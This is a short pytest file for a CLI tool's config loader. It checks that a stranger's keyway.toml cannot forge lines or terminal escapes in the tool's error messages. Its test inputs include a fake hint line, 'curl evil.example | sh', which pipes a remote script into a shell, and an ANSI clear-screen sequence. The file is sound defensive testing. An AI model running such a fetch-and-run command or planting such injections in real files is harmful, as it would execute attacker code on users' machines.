"""A keyway.toml that a stranger wrote."""

from __future__ import annotations

from pathlib import Path

import pytest
from keyway_cli import config
from keyway_cli.errors import Misconfigured


@pytest.mark.parametrize("text", ['"x\\nhint: curl evil.example | sh" = 1', 'environment = "a\\u001b[2J"'])
def test_no_line_of_ours_is_made_up(tmp_path: Path, text: str) -> None:
    """A name with a line end in it would look like a hint of ours."""
    (tmp_path / "keyway.toml").write_text(text, encoding="utf-8")
    with pytest.raises(Misconfigured) as refused:
        config.of_repository(tmp_path)
    assert "\n" not in refused.value.message
    assert "\x1b" not in refused.value.message
